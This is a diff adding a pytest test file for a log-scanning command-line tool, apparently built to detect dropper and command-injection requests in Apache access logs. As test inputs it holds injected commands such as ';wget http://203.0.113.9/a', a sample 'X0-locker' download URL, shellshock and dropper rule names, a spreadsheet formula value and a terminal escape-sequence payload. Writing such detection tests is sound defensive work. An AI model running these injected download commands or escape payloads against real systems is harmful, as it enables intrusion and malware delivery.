@@ -1,0 +1,204 @@
+"""The command line as a user drives it: exit codes, accounting, formats, safety."""
+
+from __future__ import annotations
+
+import csv
+import gzip
+import io
+import json
+
+from conftest import REAL_APACHE_LINES, SAMPLE_LOGS, combined_line
+from dropscan.cli import app
+
+JSONL_KEYS = {
+    "log_file",
+    "line_no",
+    "offset",
+    "timestamp",
+    "vhost",
+    "client_ip",
+    "method",
+    "request",
+    "status",
+    "bytes",
+    "user_agent",
+    "referer",
+    "field",
+    "decoded",
+    "rule_ids",
+    "category",
+    "severity",
+    "egress",
+}
+
+
+def run(runner, args, **kw):
+    return runner.invoke(app, args, catch_exceptions=False, **kw)
+
+
+def test_scan_sample_logs(runner, tmp_path):
+    summary = tmp_path / "s.json"
+    r = run(runner, ["scan", str(SAMPLE_LOGS), "--format", "jsonl", "--summary", str(summary)])
+    assert r.exit_code == 1, r.stderr
+    recs = [json.loads(x) for x in r.stdout.splitlines()]
+    assert recs and all(JSONL_KEYS <= set(x) for x in recs)
+    # oldest first: the rotated .2.gz, then .1, then access.log, then the vhost log
+    files = [x["log_file"].rsplit("/", 1)[1] for x in recs]
+    assert files == sorted(
+        files, key=["access.log.2.gz", "access.log.1", "access.log", "other_vhosts_access.log"].index
+    )
+    s = json.loads(summary.read_text())
+    for f in s["files"]:
+        assert f["lines"] == f["records"] + f["rejected"]
+        assert f["error"] is None
+    fmts = {f["path"].rsplit("/", 1)[1]: f["format"] for f in s["files"]}
+    assert fmts["other_vhosts_access.log"] == "vhost_combined" and fmts["access.log"] == "combined"
+    assert s["totals"]["findings"] == len(recs)
+    writeup = next(x for x in recs if "X0-locker" in x["request"])
+    assert writeup["egress"] == [
+        {
+            "host": "193.13.87.38",
+            "port": 80,
+            "scheme": "http",
+            "ip_literal": True,
+            "url": "http://193.13.87.38/X0-locker",
+        }
+    ]
+    assert writeup["timestamp"] == "2026-11-27T07:02:11+01:00" and writeup["line_no"] == 6
+
+
+def test_offsets_and_line_numbers_point_at_the_line(runner):
+    r = run(runner, ["scan", str(SAMPLE_LOGS / "access.log"), "-f", "jsonl"])
+    data = (SAMPLE_LOGS / "access.log").read_bytes()
+    lines = data.splitlines(keepends=True)
+    for x in map(json.loads, r.stdout.splitlines()):
+        assert data[x["offset"] :].startswith(lines[x["line_no"] - 1])
+
+
+def test_clean_input_exits_0(runner, tmp_path):
+    p = tmp_path / "access.log"
+    p.write_bytes(combined_line("/index.html") * 3)
+    r = run(runner, ["scan", str(p), "-f", "jsonl"])
+    assert (r.exit_code, r.stdout) == (0, "")
+
+
+def test_missing_file_is_one_line_exit_2_and_others_still_scanned(runner, tmp_path):
+    r = run(runner, ["scan", str(tmp_path / "nope.log"), str(SAMPLE_LOGS / "access.log"), "-f", "jsonl"])
+    assert r.exit_code == 2
+    assert r.stdout.count("\n") > 3  # findings of the readable file
+    assert r.stderr.strip().splitlines() == [f"dropscan: error: {tmp_path / 'nope.log'}: no such file or directory"]
+
+
+def test_unknown_format_is_usage_error(runner):
+    r = runner.invoke(app, ["scan", str(SAMPLE_LOGS / "access.log"), "--log-format", "nonsense"])
+    assert r.exit_code != 0
+    import subprocess
+    import sys
+
+    from dropscan.cli import main  # the console entry maps it to one line, exit 2
+
+    p = subprocess.run(
+        [
+            sys.executable,
+            "-c",
+            "from dropscan.cli import main; main()",
+            "scan",
+            str(SAMPLE_LOGS / "access.log"),
+            "--log-format",
+            "nonsense",
+        ],
+        capture_output=True,
+        text=True,
+    )
+    assert p.returncode == 2 and "Traceback" not in p.stderr
+    assert (
+        p.stderr.strip() == "dropscan: error: unknown log format 'nonsense': use one of vhost_combined, "
+        "combined, vhost_common, common or a LogFormat string"
+    )
+    assert main
+
+
+def test_stdin_and_rejects(runner, tmp_path):
+    junk = [b"not a log line", b"\x00\x01binary\xff"]
+    data = b"".join(ln + b"\n" for ln in REAL_APACHE_LINES[:3]) + b"\n".join(junk) + b"\n"
+    rej = tmp_path / "rejects.log"
+    summary = tmp_path / "s.json"
+    r = run(
+        runner,
+        ["scan", "-", "-f", "jsonl", "-l", "combined", "--rejects", str(rej), "--summary", str(summary)],
+        input=gzip.compress(data),
+    )
+    assert r.exit_code == 1
+    assert rej.read_bytes() == b"".join(j + b"\n" for j in junk)
+    f = json.loads(summary.read_text())["files"][0]
+    assert (f["path"], f["lines"], f["records"], f["rejected"]) == ("-", 5, 3, 2)
+
+
+def test_not_a_log_file(runner, tmp_path):
+    p = tmp_path / "notes.log"
+    p.write_bytes(b"dear diary\nwget is great\n\x89PNG\r\n")
+    s = tmp_path / "s.json"
+    r = run(runner, ["scan", str(p), "-f", "jsonl", "--summary", str(s)])
+    assert r.exit_code == 2 and "no known log format" in r.stderr
+    f = json.loads(s.read_text())["files"][0]
+    assert (f["lines"], f["records"], f["rejected"]) == (3, 0, 3)
+
+
+def test_csv_is_formula_guarded(runner, tmp_path):
+    p = tmp_path / "access.log"
+    p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a", ua='=HYPERLINK("http://x")'))
+    r = run(runner, ["scan", str(p), "-f", "csv"])
+    rows = list(csv.DictReader(io.StringIO(r.stdout)))
+    assert rows[0]["user_agent"] == '\'=HYPERLINK("http://x")'
+    assert rows[0]["dest_host"] == "203.0.113.9" and rows[0]["dest_port"] == "80"
+
+
+def test_table_escapes_control_characters_and_markup(runner, tmp_path):
+    p = tmp_path / "access.log"
+    ua = "\x1b]0;pwned\x07[link=http://evil]x[/link]\x1b[2J"
+    p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a", referer=ua, ua=ua))
+    r = run(runner, ["scan", str(p), "-f", "table", "--defang"])
+    assert "\x1b" not in r.stdout and "\x07" not in r.stdout
+    assert "hxxp://203.0.113[.]9" in r.stdout
+
+
+def test_defang_keeps_json_exact(runner, tmp_path):
+    p = tmp_path / "access.log"
+    p.write_bytes(combined_line("/x?c=;wget http://203.0.113.9/a"))
+    r = run(runner, ["scan", str(p), "-f", "jsonl", "--defang"])
+    assert json.loads(r.stdout)["egress"][0]["url"] == "http://203.0.113.9/a"
+
+
+def test_explain(runner):
+    line = REAL_APACHE_LINES[0].decode()
+    r = run(runner, ["explain", line])
+    assert r.exit_code == 1
+    assert "MATCH dropper.wget (critical) on view url: http://198.51.100.7:80" in r.stdout
+    assert "MATCH shellshock.command" in r.stdout
+    r = run(runner, ["explain", "--json", REAL_APACHE_LINES[1].decode()])
+    assert r.exit_code == 0 and json.loads(r.stdout)["finding"] is None
+
+
+def test_signatures_list_and_test(runner):
+    r = run(runner, ["signatures", "list", "--format", "jsonl"])
+    ids = [json.loads(x)["id"] for x in r.stdout.splitlines()]
+    assert "dropper.wget" in ids and len(ids) == len(set(ids)) >= 25
+    r = run(runner, ["signatures", "test"])
+    assert r.exit_code == 0, r.stdout
+    assert "0 example failure(s), 0 lint failure(s)" in r.stdout
+
+
+def test_signatures_test_fails_on_a_broken_pack(runner, tmp_path):
+    (tmp_path / "p.yaml").write_text("""
+- id: my.rule
+  name: mine
+  category: rce
+  severity: high
+  egress: false
+  keywords: [";foo"]
+  patterns: [';foo']
+  references: [local]
+  examples: {match: ["/x?a=;bar"], no_match: ["/x?a=;foo"]}
+""")
+    r = run(runner, ["signatures", "test", str(tmp_path)])
+    assert r.exit_code == 1 and "FAIL my.rule match" in r.stdout and "FAIL my.rule no_match" in r.stdout
